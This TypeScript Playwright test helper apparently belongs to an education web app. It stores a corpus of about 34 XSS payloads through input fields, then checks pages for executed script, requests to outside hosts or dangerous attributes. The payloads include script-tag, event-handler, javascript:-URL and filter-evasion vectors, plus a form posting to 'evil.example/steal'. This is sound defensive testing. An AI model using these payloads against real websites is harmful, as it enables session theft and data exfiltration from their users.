import type { APIRequestContext, Browser, Page } from '@playwright/test';
import { E2E_PORT } from './server-log.ts';

/**
 * The corpus of script-carrying markup and the steps the XSS journeys share: storing it through a field, and
 * opening a page to report what ran or reached the DOM from it.
 */
export const EVIL = 'evil.example';
export const X = 'window.__xss=1';
export const VECTORS = [
  `<script>${X}</script>`,
  `<img src=x onerror="${X}">`,
  `<svg onload=${X}>`,
  `<svg><script>${X}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${X}>`,
  `<a href="javascript:${X}">点我</a>`,
  `<a href="jav&#x09;ascript:${X}">点我</a>`,
  `<iframe src="javascript:${X}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`,
  `<base href="https://${EVIL}/">`,
  `<form action="https://${EVIL}/steal"><input name=p><button>提交</button></form>`,
  `<link rel=stylesheet href="https://${EVIL}/x.css">`,
  `<div style="background:url(https://${EVIL}/bg.png)">样式</div>`,
  `<img src=//${EVIL}/beacon.gif>`,
  `<video><source onerror="${X}"></video>`,
  `<body onload=${X}>`,
  `<details open ontoggle=${X}>`,
  `<input autofocus onfocus=${X}>`,
  `"><script>${X}</script>`,
  `'><img src=x onerror=${X}>`,
  `\${${X}}\``,
  `</textarea><script>${X}</script>`,
  `</title><script>${X}</script>`,
  `\\u003cscript\\u003e${X}\\u003c/script\\u003e`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<object data="javascript:${X}"></object>`,
  `<embed src="https://${EVIL}/x.swf">`,
  `<isindex action=javascript:${X} type=image>`,
  `<img src="x" style="x:expression(${X})">`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">数据</a>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<style>@import 'https://${EVIL}/i.css';</style>`,
];

export type Call = (
  path: string,
  body?: unknown,
) => Promise<{ code: number; msg: string; data: ReturnType<typeof JSON.parse> }>;

export async function signIn(request: APIRequestContext, who: 'student' | 'lecturer' | 'organisation' | 'admin') {
  const mobile = { student: '13800000001', lecturer: '13800000002', organisation: '13800000003' };
  const login =
    who === 'admin'
      ? await request.post('/apis/system/api/admin/login', { data: { loginName: 'admin', password: 'Demo1234' } })
      : await request.post('/apis/user/api/user/login/password', {
          data: { mobile: mobile[who], password: 'Demo1234', clientType: 1 },
        });
  const { data } = await login.json();
  const call: Call = async (path, body = {}) =>
    (await request.post(`/apis${path}`, { data: body, headers: { token: data.token } })).json();
  return call;
}

/**
 * Stores the corpus through one field: all of it in as few values as the field's limit allows (the refusal
 * names the limit). `many` fields (comments, feedback…) take one value per piece; a single field takes the first.
 */
export async function store(label: string, many: boolean, put: (value: string) => ReturnType<Call>): Promise<string[]> {
  const first = await put(VECTORS.join(' '));
  if (first.code === 200) return [label];
  const max = Number(/不能超过 (\d+)/.exec(first.msg)?.[1] ?? 0);
  if (!max) throw new Error(`${label}: ${first.code} ${first.msg}`);
  const pieces: string[] = [];
  for (const v of VECTORS) {
    const last = pieces.at(-1);
    if (last !== undefined && last.length + 1 + v.length <= max) pieces[pieces.length - 1] = `${last} ${v}`;
    else pieces.push(v.slice(0, max));
  }
  for (const p of many ? pieces : pieces.slice(0, 1)) {
    const res = await put(p);
    if (res.code !== 200) throw new Error(`${label}: ${res.code} ${res.msg}`);
  }
  return [label];
}

export interface Seen {
  problems: string[];
}

/** Opens a page and reports what ran or reached the DOM from the corpus. */
export async function visit(page: Page, path: string, seen: Seen, as: string) {
  const problems: string[] = [];
  const onDialog = (d: { message(): string; dismiss(): Promise<void> }) => {
    problems.push(`dialog: ${d.message()}`);
    void d.dismiss();
  };
  const onRequest = (r: { url(): string }) => {
    const u = new URL(r.url());
    if (!['127.0.0.1', 'localhost'].includes(u.hostname) && u.protocol !== 'data:' && u.protocol !== 'blob:')
      problems.push(`request to ${r.url()}`);
  };
  page.on('dialog', onDialog);
  page.on('request', onRequest);
  await page.goto(path);
  await page.waitForLoadState('networkidle');
  const found = await page.evaluate((evil) => {
    const out: string[] = [];
    if ((window as { __xss?: unknown }).__xss) out.push('window.__xss was set');
    const corpus = (v: string) => v.includes(evil) || v.includes('__xss');
    const parses = (v: string) => {
      try {
        JSON.parse(v);
        return !v.includes('<');
      } catch {
        return false;
      }
    };
    // the elements themselves, not what they hold: the site's own forms hold inputs showing stored text
    for (const el of document.querySelectorAll('meta[http-equiv], base, form, link, iframe, object, embed, script')) {
      const own = [...el.attributes].some((a) => corpus(a.value));
      // the router's data stream carries the stored text as JSON inside the page's own script
      const routerData = el.textContent!.startsWith('window.__reactRouterContext');
      // structured data for search engines and a page's packed loader data are never run; stored text inside them is
      // safe while it stays whole JSON (markup that closed the element early would leave it cut short)
      const type = el.getAttribute('type');
      const jsonData = (type === 'application/ld+json' || type === 'application/json') && parses(el.textContent!);
      const script = el.tagName === 'SCRIPT' && !routerData && !jsonData;
      if (own || (script && corpus(el.textContent!))) out.push(`element ${el.outerHTML.slice(0, 120)}`);
    }
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.attributes) {
        const risky = /^on/i.test(a.name) || (a.name === 'style' && /url\(|expression/i.test(a.value));
        const scripted = /^(href|src|action|data|formaction)$/i.test(a.name) && /^\s*(javascript|data):/i.test(a.value);
        if ((risky && /__xss|evil|expression/.test(a.value)) || (scripted && a.value.includes('__xss')))
          out.push(`attribute ${a.name}="${a.value.slice(0, 80)}" on <${el.tagName.toLowerCase()}>`);
      }
    }
    return out;
  }, EVIL);
  problems.push(...found);
  const now = new URL(page.url());
  if (now.port !== String(E2E_PORT) || !['127.0.0.1', 'localhost'].includes(now.hostname))
    problems.push(`navigated to ${page.url()}`);
  page.off('dialog', onDialog);
  page.off('request', onRequest);
  seen.problems.push(...problems.map((p) => `${path} as ${as}: ${p}`));
}

export async function contextAs(browser: Browser, who: 'student' | 'lecturer' | 'organisation' | 'admin' | 'guest') {
  const context = await browser.newContext();
  if (who !== 'guest') await signIn(context.request, who);
  return context;
}
